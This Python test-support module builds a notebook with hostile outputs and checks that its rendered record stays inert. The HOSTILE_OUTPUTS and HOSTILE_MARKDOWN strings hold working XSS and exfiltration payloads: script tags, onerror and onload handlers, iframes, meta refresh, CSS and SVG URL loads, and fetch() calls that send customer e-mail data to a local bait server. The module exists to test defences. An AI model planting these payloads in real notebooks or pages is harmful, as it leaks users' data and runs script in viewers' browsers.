"""A notebook whose record tries to phone home and run script when someone opens it.

It runs in a sandbox (no network): its outputs and Markdown only act once the
kept record is opened in a browser. Every vector points at `{bait}`, a server
on 127.0.0.1 that counts what reaches it, and sends the customers' e-mail
addresses there if it can. `inert_problems` reads a kept record as Dagster's
`/notebook` page renders it (nbconvert's default exporter) and lists what
could still load a URL or run notebook-supplied script.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import nbformat

from support.notebook_factory import RUNTIME, code, md, write_notebook

# One cell of hostile outputs; `{bait}` is http://127.0.0.1:<port>, `{data}` the Python expression leaked.
HOSTILE_OUTPUTS = r'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
d = {data}
display(HTML('<img src="{bait}/img?d=' + d + '"><script>fetch("{bait}/js?d=' + d + '"); window.__nb_pwned = 1</script>'
             '<img src="x" onerror="fetch(\'{bait}/onerror?d=' + d + '\')">'
             '<iframe src="{bait}/iframe"></iframe><object data="{bait}/object"></object><embed src="{bait}/embed">'
             '<link rel="stylesheet" href="{bait}/link.css"><base href="{bait}/base/">'
             '<meta http-equiv="refresh" content="0;url={bait}/refresh?d=' + d + '">'
             '<style>@import url("{bait}/import.css"); body {{ background: url("{bait}/bg.png") }}</style>'
             '<div style="background-image: url({bait}/style.png)">styled</div>'
             '<a href="javascript:fetch(\'{bait}/click\')">click</a><img src="//127.0.0.1:{port}/relative.png">'))
display(Javascript('fetch("{bait}/js2?d=' + d + '"); window.__nb_pwned = 2'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/html": '<img src="{bait}/widget.png">'}}, raw=True)
display(Markdown('![leak]({bait}/md-output?d=' + d + ') <img src="{bait}/md-html.png" onload="fetch(\'{bait}/md-onload\')">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" '
            'onload="fetch(\'{bait}/svg-onload\')"><script>fetch("{bait}/svg-script")</script>'
            '<image href="{bait}/svg-image.png" width="10" height="10"/><use xlink:href="{bait}/sprite.svg#x"/>'
            '<foreignObject width="10" height="10"><img xmlns="http://www.w3.org/1999/xhtml" src="{bait}/fo.png"/></foreignObject>'
            '<rect width="40" height="40" style="fill: url({bait}/fill.svg)"/><circle cx="20" cy="20" r="10" fill="#c00"/></svg>'))
display({{"text/html": '<img src="x.png">', "text/plain": "files"}}, raw=True,
        metadata={{"filenames": {{"image/png": "{bait}/filenames.png"}}}})
'''.strip()

HOSTILE_MARKDOWN = (
    "## Customers\n\n"
    "![tracker]({bait}/md-image.png) and [docs](javascript:fetch('{bait}/md-click'))\n\n"
    '<img src="{bait}/md-raw.png" onerror="fetch(\'{bait}/md-raw-onerror\')">\n\n'
    "<script>fetch('{bait}/md-script')</script>\n\n"
    "![ref][tracker]\n\n[tracker]: {bait}/md-ref.png\n\n"
    "$\\style{{background-image: url({bait}/mathjax.png)}}{{x}}$ and <{bait}/autolink>\n"
)


def hostile_notebook(path: Path, bait: str, *, sql: str, data: str) -> Path:
    """A report that reads customers (`sql`, one %%sql input named `customers`), draws a chart,
    shows a DataFrame, and ends with every hostile vector; `data` is the expression it leaks."""
    port = bait.rsplit(":", 1)[1]
    return write_notebook(
        path,
        md("# Leaky report\n\nA chart, a table, and outputs that try to leave."),
        code(RUNTIME),
        code(f"%%sql customers\n{sql}"),
        code("import matplotlib.pyplot as plt\nplt.bar(range(len(customers)), range(len(customers)))\nplt.title('chart')\nplt.show()"),
        code("customers.head(3)"),
        md(HOSTILE_MARKDOWN.format(bait=bait)),
        code(HOSTILE_OUTPUTS.format(bait=bait, port=port, data=data)),
    )


def inert_problems(executed: Path, bait_host: str = "127.0.0.1") -> list[str]:
    """What in the record, rendered as Dagster's `/notebook` page renders it, could load a URL on
    `bait_host` or run script the notebook supplied (the template's own scripts are its page's)."""
    from nbconvert import HTMLExporter

    ours = _Scan()
    ours.feed(HTMLExporter().from_notebook_node(nbformat.read(str(executed), as_version=4))[0])
    template = _Scan()
    template.feed(HTMLExporter().from_notebook_node(nbformat.v4.new_notebook())[0])
    problems = [f"script {s!r}"[:200] for s in ours.scripts if s not in template.scripts]
    problems += ours.problems
    problems += [f"a URL on {bait_host} in {where}" for where in ours.urls if bait_host in where]
    return problems


class _Scan(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.problems: list[str] = []
        self.urls: list[str] = []
        self._raw: tuple[str, list[str]] | None = None  # inside <script> or <style>: its source and text

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in ("script", "style"):
            self._raw = (tag, [str(values.get("src") or "")])
        if tag in ("iframe", "object", "embed", "base", "link") or (tag == "meta" and "http-equiv" in values):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            elif value and tag != "script":
                self.urls.append(f"<{tag} {name}={value[:160]!r}>")

    def handle_data(self, data: str) -> None:
        if self._raw is not None:
            self._raw[1].append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._raw is not None and tag == self._raw[0]:
            text = "".join(self._raw[1]).strip()
            (self.scripts if tag == "script" else self.urls).append(text if tag == "script" else f"<style> {text}")
            self._raw = None
